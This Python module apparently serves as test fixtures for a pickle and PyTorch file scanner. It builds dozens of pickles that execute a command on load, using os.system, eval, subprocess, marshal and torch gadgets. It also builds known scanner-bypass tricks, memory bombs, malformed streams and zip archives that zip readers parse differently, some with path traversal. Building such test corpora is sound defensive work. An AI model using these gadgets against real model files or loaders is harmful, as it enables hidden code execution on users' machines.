"""Files that mean harm, built by code: what is known to get past scanners of pickles, and the classics.

Each live pickle, given to Python's own ``pickle.loads``, makes the file ``marker``. Where they come from: the issues
and pull requests mmaitre314/picklescan#14, #46, #66, #74, protectai/modelscan#263, #313, #338, google/saferpickle#18
and trailofbits/fickling#190, and CVE-2026-56304, read for what they describe.
"""

import io
import marshal
import pickle
import struct
import zipfile
from collections.abc import Callable
from functools import cache
from pathlib import Path

MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)


class _Command:
    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.call


def text(value: str) -> bytes:
    """BINUNICODE."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def raw(value: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(value)) + value


def live_pickles(marker: Path) -> dict[str, bytes]:
    """Pickles that make ``marker`` when Python's pickle reads them."""
    import os

    command = f"touch {marker}"
    shell = text(command)
    source = f"open({str(marker)!r}, 'w').close()"
    pickles = {
        f"os.system by protocol {protocol}": pickle.dumps(_Command(os.system, command), protocol)
        for protocol in range(6)
    }
    return pickles | {
        "protocol 0 without a header": b"cposix\nsystem\n(V" + command.encode() + b"\ntR.",
        "inside a state dict": b"\x80\x02}" + text("w") + b"cposix\nsystem\n" + shell + b"\x85Rs.",
        "popped, so that only data remains": b"\x80\x02}cposix\nsystem\n" + shell + b"\x85R0.",
        "INST": b"(" + shell + b"iposix\nsystem\n.",
        "OBJ": b"(cposix\nsystem\n" + shell + b"o.",
        "STACK_GLOBAL": b"\x80\x04" + text("posix") + text("system") + b"\x93" + shell + b"\x85R.",
        # Scanners that number MEMOIZE on their own take "math" for the module: put writes place 1, memoize place 1 too.
        "memo confusion of put and memoize": b"\x80\x04"
        + (text("math") + b"q\x00" + text("posix") + b"q\x01" + text("floor") + b"q\x02")
        + (b"0" + text("system") + b"q\x02000" + b"h\x01h\x02\x93" + shell + b"\x85R."),
        "memo overwritten after use": b"\x80\x04"
        + (text("collections") + b"\x940" + text("posix") + b"q\x000" + b"h\x00" + text("system") + b"\x93")
        + (shell + b"\x85R."),
        "builtins.eval": b"\x80\x02c__builtin__\neval\n" + text(source) + b"\x85R.",
        "builtins.exec": b"\x80\x04cbuiltins\nexec\n" + text(source) + b"\x85R.",
        "getattr by steps": b"\x80\x04cbuiltins\ngetattr\n(cbuiltins\n__import__\n"
        + (text("os") + b"\x85R" + text("system") + b"tR" + shell + b"\x85R."),
        "a dotted name": b"\x80\x04" + text("shutil") + text("os.system") + b"\x93" + shell + b"\x85R.",
        "runpy": b"\x80\x02crunpy\n_run_code\n(cbuiltins\ncompile\n("
        + (text(source) + text("x") + text("exec") + b"tR}tR."),
        "timeit": b"\x80\x02ctimeit\ntimeit\n(" + text("pass") + text(source) + b"tR.",
        "torch.utils.collect_env.run": b"\x80\x02ctorch.utils.collect_env\nrun\n" + shell + b"\x85R.",
        "numpy's f2py": b"\x80\x02cnumpy.f2py.crackfortran\nmyeval\n" + text(source) + b"\x85R.",
        "functools.partial": b"\x80\x02cfunctools\npartial\n(cposix\nsystem\n" + shell + b"tR)R.",
        "map by list": b"\x80\x02c__builtin__\nlist\nc__builtin__\nmap\ncposix\nsystem\n" + shell + b"\x85\x86R\x85R.",
        "through torch's own rebuild function": b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(cposix\nsystem\n"
        + (b"cbuiltins\nint\n" + shell + b"\x85}tR."),
        "subprocess": b"\x80\x02csubprocess\ncheck_call\n](" + text("touch") + text(str(marker)) + b"e\x85R.",
        "importlib.import_module": b"\x80\x02cbuiltins\ngetattr\n(cimportlib\nimport_module\n"
        + (text("os") + b"\x85R" + text("system") + b"tR" + shell + b"\x85R."),
        "pkgutil.resolve_name": b"\x80\x02cpkgutil\nresolve_name\n" + text("os:system") + b"\x85R" + shell + b"\x85R.",
        "operator.attrgetter": b"\x80\x02coperator\nattrgetter\n"
        + text("system")
        + b"\x85R"
        + (b"cimportlib\nimport_module\n" + text("posix") + b"\x85R\x85R" + shell + b"\x85R."),
        "marshal": b"\x80\x03cbuiltins\nexec\n(cmarshal\nloads\n"
        + (raw(marshal.dumps(compile(source, "x", "exec"))) + b"\x85R}tR."),
        "a pickle in a pickle": b"\x80\x03cpickle\nloads\n" + raw(b"cposix\nsystem\n" + shell + b"\x85R.") + b"\x85R.",
        "a torch file in a pickle": b"\x80\x03ctorch.storage\n_load_from_bytes\n"
        + (raw(legacy_of(b"\x80\x02cposix\nsystem\n" + shell + b"\x85R.")) + b"\x85R."),
        "cProfile.run": b"\x80\x02ccProfile\nrun\n" + text(source) + b"\x85R.",
        "logging.FileHandler": b"\x80\x02clogging\nFileHandler\n" + text(str(marker)) + b"\x85R.",
        "a method of a path": b"\x80\x04"
        + text("pathlib")
        + text("Path.touch")
        + b"\x93cpathlib\nPosixPath\n"
        + (text(str(marker)) + b"\x85R\x85R."),
        # The harm is done when the stream turns out to be broken: scanners that give up there have seen nothing.
        "before a broken stream": b"\x80\x02cposix\nsystem\n" + shell + b"\x85R\xff.",
        "before the end of the file": b"\x80\x02cposix\nsystem\n" + shell + b"\x85R",
        "a default factory": b"\x80\x02ccollections\ndefaultdict\ncposix\nsystem\n\x85R"
        + (text("k") + b"cposix\nsystem\n" + shell + b"\x85Rs."),
    }


def dead_pickles() -> dict[str, bytes]:
    """Pickles that a reader of data must refuse though they run no command here: missing modules, bombs, nonsense."""
    deep = b"\x80\x02" + b"]" * 5000 + b"a" * 4999 + b"."
    # Each line: a new list, twice the list before it appended, put in the memo, dropped.
    doubled = b"".join(b"]h%ca" % n + b"h%ca" % n + b"q%c0" % (n + 1) for n in range(60))
    laugh = b"\x80\x02]q\x000" + doubled + b"h\x3c."
    return {
        "multiprocessing.util.spawnv_passfds": b"\x80\x02cmultiprocessing.util\nspawnv_passfds\n"
        + (text("/bin/false") + b"]]\x87R."),
        "mlflow": b"\x80\x02cmlflow.projects.backend.local\n_run_entry_point\n" + text("id") + b"\x85R.",
        "pandas.read_csv": b"\x80\x02cpandas\nread_csv\n" + text("nowhere.csv") + b"\x85R.",
        "ensurepip": b"\x80\x02censurepip\n_run_pip\n](" + text("--version") + b"e\x85R.",
        "pip.main": b"\x80\x02cpip\nmain\n](" + text("--version") + b"e\x85R.",
        "a class of a submodule": b"\x80\x04" + text("asyncio.unix_events") + text("_UnixSubprocessTransport._start")
        + b"\x93(" + text("id") + b"tR.",
        "torch.hub.load": b"\x80\x02ctorch.hub\nload\n" + text("a/b") + b"\x85R.",
        "torch.load": b"\x80\x02ctorch\nload\n" + text("x.pth") + b"\x85R.",
        "5,000 rebuilds in each other": b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\nq\x00)"
        + b"q\x010h\x00h\x00h\x01\x87" * 5000 + b"R.",
        "another codec": b"\x80\x02c_codecs\nencode\n" + text("x") + text("zlib") + b"\x86R.",
        "a call of a class of its own": b"\x80\x02cmodels\nNetwork\n)R.",
        "a call of a made object": b"\x80\x02cmodels\nNetwork\n)\x81)R.",
        "a state for a function": b"\x80\x02cposix\nsystem\n}b.",
        "EXT1": b"\x80\x02\x82\x01.",
        "EXT2": b"\x80\x02\x83\x01\x00.",
        "EXT4": b"\x80\x02\x84\x01\x00\x00\x00.",
        "a buffer outside": b"\x80\x05\x97.",
        "a textual persistent id": b"Pstorage\n.",
        "a persistent id that is no storage": b"\x80\x02" + text("x") + b"Q.",
        "a module as a persistent id": b"\x80\x02(" + text("module") + text("x") + b"NNtQ.",
        "a list that holds itself": b"\x80\x02]q\x00h\x00a.",
        "a dict that holds itself": b"\x80\x02}q\x00" + text("k") + b"h\x00s.",
        "an object that holds itself": b"\x80\x02cm\nC\n)\x81q\x00}" + text("me") + b"h\x00sb.",
        "5,000 lists in each other": deep,
        "5,000 tuples in each other, hashed": b"\x80\x02})" + b"\x85" * 5000 + b"Ns.",
        "a tuple shared 60 times over, hashed": b"\x80\x02})" + b"2\x86" * 60 + b"Ns.",
        "2^60 lists by sharing": laugh,
        "a name of 10,000 letters": b"\x80\x02c" + b"a" * 10000 + b"\nb\n.",
        "an integer of 80,000 bits": b"\x80\x02\x8b" + struct.pack("<I", 10000) + b"\x7f" * 10000 + b".",
        "an integer said to have 2^31 bytes": b"\x80\x02\x8b" + struct.pack("<I", 2**31 - 1) + b"\x7f.",
        "a text said to have 2^63 bytes": b"\x80\x04\x8d" + struct.pack("<Q", 2**63 - 1) + b"a.",
        "bytes said to have 2^40": b"\x80\x04\x8e" + struct.pack("<Q", 2**40) + b"a.",
        "an empty stack": b"\x80\x02.",
        "a mark never closed": b"\x80\x02(.",
        "a mark never opened": b"\x80\x02t.",
        "a pop of nothing": b"\x80\x020.",
        "a memo place never filled": b"\x80\x02h\x07.",
        "a negative memo place": b"Np-1\n.",
        "append to a text": b"\x80\x02" + text("a") + b"Na.",
        "items of a list": b"\x80\x02]NNs.",
        "odd items": b"\x80\x02}(Nu.",
        "a list as a key": b"\x80\x02}]Ns.",
        "a class named by a number": b"\x80\x04K\x01K\x02\x93.",
        "a lone surrogate": b"\x80\x02X\x03\x00\x00\x00\xed\xa0\x80.",
        "no stop": b"\x80\x02}",
        "an unknown opcode": b"\x80\x02\xff.",
        "nothing": b"",
        "one dictionary rebuilt for ever": b"\x80\x02](" + b"K\x01K\x01\x86" * 1000 + b"eq\x000"
        + b"ccollections\nOrderedDict\nq\x010" + b"h\x01h\x00\x85R0" * 20_000 + b"N.",
    }  # fmt: skip


def zip_of(pickled: bytes, storages: dict[str, bytes] | None = None, *, name: str = "archive/data.pkl") -> bytes:
    """A torch zip as an honest writer would make it around ``pickled``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, pickled)
        for key, data in (storages or {}).items():
            archive.writestr(f"archive/data/{key}", data)
        archive.writestr("archive/version", b"3\n")
    return buffer.getvalue()


def legacy_of(pickled: bytes, keys: list[str] | None = None, storages: bytes = b"") -> bytes:
    """A legacy file as an honest writer would make it around ``pickled``."""
    facts = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return MAGIC + pickle.dumps(facts, 2) + pickled + pickle.dumps(keys or [], 2) + storages


@cache
def zip_tricks() -> dict[str, bytes]:
    """Archives that two readers of zip files read differently; the pickle inside is an honest empty dict."""
    good = zip_of(b"\x80\x02}.")
    end, central = len(good) - 22, struct.unpack("<I", good[-6:-2])[0]
    other = io.BytesIO()
    with zipfile.ZipFile(other, "w") as archive:
        archive.writestr("archive/data.pkl", b"\x80\x02}.")
        archive.writestr("archive/DATA.PKL", b"\x80\x02].")
    twice = other.getvalue()
    shifted = struct.pack("<I", central + 4)

    def patched(at: int, new: bytes, of: bytes = good) -> bytes:
        return of[:at] + new + of[at + len(new) :]

    def both(local: int, in_central: int, new: bytes) -> bytes:
        return patched(central + in_central, new, patched(local, new))

    return {
        "encrypted by the flag in the directory": patched(central + 8, b"\x01\x00"),
        "encrypted by the flag in the header": patched(6, b"\x01\x00"),
        "encrypted by both flags": both(6, 8, b"\x01\x00"),
        "strong encryption": both(6, 8, b"\x40\x00"),
        "patched data": both(6, 8, b"\x20\x00"),
        "an unknown method": both(8, 10, b"\x63\x00"),
        "a method that differs": patched(8, b"\x08\x00"),
        "a name that differs": patched(30, b"brchive"),
        "a size that differs": patched(18, struct.pack("<I", 3)),
        "a wrong CRC in both": both(14, 16, b"\0\0\0\1"),
        "a wrong CRC in the header": patched(14, b"\0\0\0\1"),
        "a wrong CRC in the directory": patched(central + 16, b"\0\0\0\1"),
        "two entries that differ in case": twice,
        "two entries of one name": twice.replace(b"DATA.PKL", b"data.pkl"),
        "a byte before": b"\0" + good,
        "four bytes before, offsets moved": good[:central] + b"\0\0\0\0" + good[central:-6] + shifted + b"\0\0",
        "bytes after": good + b"PK",
        "a comment": good[:-2] + b"\x02\x00ab",
        "a second end record in a comment": good[:-2] + struct.pack("<H", 22) + good[end:],
        "many disks": patched(end + 4, b"\x01\x00"),
        "a count too small": patched(end + 8, b"\x01\x00\x01\x00"),
        "a count too large": patched(end + 8, b"\xff\xff\xff\xff"),
        "a header offset past the end": patched(central + 42, b"\xff\xff\xff\x7f"),
        "two entries over the same bytes": patched(central + 46 + 16 + 42, b"\0\0\0\0"),
        "cut before the directory": good[:central],
        "a path outwards": zip_of(b"\x80\x02}.", {"../../x": b""}),
        "an absolute path": zip_of(b"\x80\x02}.", name="/archive/data.pkl"),
        "a backslash": zip_of(b"\x80\x02}.", {"a\\b": b""}),
        "a control character": zip_of(b"\x80\x02}.", {"a\x1bb": b""}),
        "a deeper pickle only": zip_of(b"\x80\x02}.", name="archive/x/data.pkl"),
        "a pickle of another case": zip_of(b"\x80\x02}.", name="archive/Data.pkl"),
        "a deflated bomb": deflated(b"\x80\x02X" + struct.pack("<I", 200 << 20) + b"\0" * (200 << 20) + b"."),
        "empty": b"PK\x05\x06" + b"\0" * 18,
    }


def deflated(pickled: bytes) -> bytes:
    """A torch zip whose entries are deflated."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", pickled)
    return buffer.getvalue()
